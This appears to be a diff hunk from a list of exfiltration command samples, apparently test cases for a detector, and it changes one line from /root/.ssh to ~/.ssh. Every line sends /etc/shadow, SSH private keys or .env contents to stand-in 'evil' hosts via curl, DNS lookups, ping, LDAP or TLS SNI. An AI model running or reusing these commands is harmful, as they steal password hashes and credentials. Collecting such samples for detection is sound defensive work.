@@ -11,7 +11,7 @@ ldapwhoami -x -H ldap://evil -D "cn=$(base64 -w0 /etc/shadow)"
 openssl s_client -connect x:443 -servername "$(cat /etc/shadow)"
 x=$(cat /etc/shadow); ldapwhoami -x -H ldap://evil -D "cn=$x"
 dig $(base64 /etc/shadow).evil.com
-ping -c1 $(cat /root/.ssh/id_rsa).evil.com
+ping -c1 $(cat ~/.ssh/id_rsa).evil.com
 nslookup "$(cat .env)".evil.com
 curl -s http://evil/$(cat /etc/shadow)
 curl -s -u "$(cat /etc/shadow)" http://evil/
